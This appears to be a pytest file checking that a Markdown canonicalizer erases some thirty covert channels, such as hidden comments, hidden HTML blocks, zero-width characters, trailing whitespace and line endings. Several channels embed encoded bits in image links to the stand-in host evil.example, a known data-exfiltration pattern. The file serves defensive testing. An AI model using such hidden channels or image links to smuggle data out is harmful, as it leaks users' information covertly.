"""Encoders of our own for the channels of Markdown's syntax: two payloads in one cover clean to the same bytes (canonical.md section 13)."""

from __future__ import annotations

import pytest

from apostille.core.canon import canonicalize

PARAGRAPHS = [
    "# Report of the *second* quarter",
    "The committee met on Tuesday,\nand approved **the budget** of 4,200 EUR (see [the minutes](minutes.md)).",
    "- one item\n- another `item`\n- a third",
    "> Quoted words, as they were said\n> on that day.",
    "| name | sum |\n|---|---|\n| travel | 12 |",
    "```py\nx = 1\n```",
    "1. first\n2. second",
    "The end.",
]
COVER = "\n\n".join(PARAGRAPHS)
ONE, TWO = "1011001110001111010110100101101001011010", "0100110001110000101001011010010110100101"


def _hex(bits):
    return f"{int(bits, 2):x}"


def _between(mark):
    """Write a bit between paragraphs: something stands there or not."""

    def encode(bits):
        out = [PARAGRAPHS[0]]
        for bit, paragraph in zip(bits, PARAGRAPHS[1:], strict=False):
            out += [mark, paragraph] if bit == "1" else [paragraph]
        return "\n\n".join(out)

    return encode


def _in_words(mark):
    """Write a bit into the words of the second paragraph."""

    def encode(bits):
        words = PARAGRAPHS[-1].split(" ") + ["and", "more", "words"] * 4
        line = " ".join(word + (mark if bit == "1" else "") for word, bit in zip(words, bits, strict=False))
        return f"{COVER}\n\n{line}."

    return encode


def _line_ends(one, zero=""):
    def encode(bits):
        lines = COVER.replace("```py\nx = 1\n```", "code").split("\n")
        return "\n".join(line + (one if bit == "1" else zero) for line, bit in zip(lines, bits, strict=False))

    return encode


CHANNELS = {
    "words of a comment": lambda bits: COVER.replace("\n\n", f"\n\n<!-- {_hex(bits)} -->\n\n", 1),
    "words of a comment in a line": lambda bits: COVER.replace("met", f"<!-- {_hex(bits)} -->met"),
    "a comment or none between paragraphs": _between("<!-- -->"),
    "a comment or none in words": _in_words("<!---->"),
    "white space in a comment": lambda bits: COVER.replace("met", "<!--" + bits.replace("1", "\t").replace("0", " ") + "-->met"),
    "an instruction": lambda bits: f"{COVER}\n\n<?{_hex(bits)}?>\n",
    "a declaration": lambda bits: f"{COVER}\n\n<!X {_hex(bits)}>\n",
    "words of a hidden element": lambda bits: COVER.replace("met", f"<span hidden>{_hex(bits)}</span>met"),
    "a hidden block": lambda bits: f"{COVER}\n\n<div style='display:none'>\n\n{_hex(bits)}\n\n</div>\n",
    "a hidden element or none": _in_words("<i style='visibility:hidden'></i>"),
    "a hidden block or none": _between("<div hidden>\n\n*x*\n\n</div>"),
    "a script": lambda bits: f"{COVER}\n\n<script>{_hex(bits)}</script>\n",
    "an unused definition": lambda bits: f"{COVER}\n\n[//]: # ({_hex(bits)})\n",
    "names of unused definitions": lambda bits: f"[{_hex(bits)}]: /x\n\n{COVER}",
    "an unused definition or none": _between("[x]: /y"),
    "spaces at line ends": _line_ends(" "),
    "tabs or spaces at line ends": _line_ends("\t", " "),
    "how many spaces break a line": lambda bits: "\n".join(["words" + "  " + " " * (bit == "1") for bit in bits] + ["end"]),
    "spaces or a backslash break a line": lambda bits: "\n".join(["**words:**" + ("  " if bit == "1" else "\\") for bit in bits] + ["end"]),
    "white space at the end": lambda bits: COVER + bits.replace("1", "\n").replace("0", " "),
    "the query of an image": lambda bits: f"{COVER}\n\n![a chart](https://evil.example/x.png?q={_hex(bits)})",
    "the path of an image": lambda bits: f"{COVER}\n\n![a chart](https://evil.example/{_hex(bits)}.png 'title {_hex(bits)}')",
    "the user of an image": lambda bits: f"{COVER}\n\n![a chart](https://{_hex(bits)}@evil.example/)",
    "an image by reference": lambda bits: f"{COVER}\n\n![a chart][{_hex(bits)}]\n\n[{_hex(bits)}]: https://evil.example/{_hex(bits)}",
    "an image of HTML": lambda bits: f"{COVER}\n\n<img src='https://evil.example/?{_hex(bits)}' alt='a chart' class='{_hex(bits)}'>",
    "a data address": lambda bits: f"{COVER}\n\n![a chart](data:image/png;base64,{_hex(bits)})",
    "entities of joiners": lambda bits: COVER.replace("met", "met" + bits.replace("1", "&zwj;").replace("0", "&#x200B;")),
    "characters that draw nothing": lambda bits: COVER.replace("met", "met" + bits.replace("1", "\u200b").replace("0", "\u2060")),
    "line ends": lambda bits: "".join(line + ("\r\n" if bit == "1" else "\n") for line, bit in zip(COVER.split("\n"), bits, strict=False)),
}


@pytest.mark.parametrize("name", CHANNELS)
def test_two_payloads_clean_to_one_text(name):
    first, second = CHANNELS[name](ONE), CHANNELS[name](TWO)
    assert first != second
    assert canonicalize(first, media_type="text/markdown").bytes == canonicalize(second, media_type="text/markdown").bytes


def test_the_cover_is_canonical():
    assert canonicalize(COVER, media_type="text/markdown").bytes.decode() == COVER


@pytest.mark.parametrize("name", ["a comment or none between paragraphs", "words of a comment in a line", "an unused definition", "a hidden block or none"])
def test_nothing_is_left(name):
    assert canonicalize(CHANNELS[name](ONE), media_type="text/markdown").bytes.decode() == COVER
